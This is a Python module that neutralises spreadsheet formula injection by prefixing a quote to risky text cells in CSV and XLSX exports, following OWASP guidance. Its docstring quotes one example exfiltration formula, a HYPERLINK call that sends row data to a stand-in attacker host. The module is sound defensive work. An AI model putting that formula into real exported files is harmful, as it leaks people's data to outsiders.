"""Cells that a spreadsheet would run as a formula, made inert (CSV / formula injection).

A value a person typed (a name, a note, an SMS body) that starts with ``=``, ``+``,
``-``, ``@``, a tab or a carriage return is a formula to Excel, LibreOffice and Google
Sheets when the file is opened: ``=HYPERLINK("https://evil.example/?"&A1, "Click")``
sends the row to a stranger. Following OWASP's CSV-injection guidance such a cell gets a
leading single quote, which the spreadsheet shows as text. Every file the project writes
for spreadsheets (the CSVs of an access package, the admin's CSV and XLSX exports) goes
through :func:`neutralise_formula`; JSON keeps the raw value, since nothing executes it."""

from __future__ import annotations

from typing import Any

import tablib

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def neutralise_formula(value: Any) -> Any:
    """The value, with a leading ``'`` if it is text a spreadsheet would evaluate.
    Numbers, dates and other non-text values pass unchanged (``-5`` as a number is a
    number, not a formula)."""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


def neutralised_dataset(dataset: tablib.Dataset) -> tablib.Dataset:
    """A copy of ``dataset`` with every text cell passed through neutralise_formula."""
    safe = tablib.Dataset(headers=dataset.headers, title=dataset.title)
    for row in dataset:
        safe.append([neutralise_formula(cell) for cell in row])
    return safe
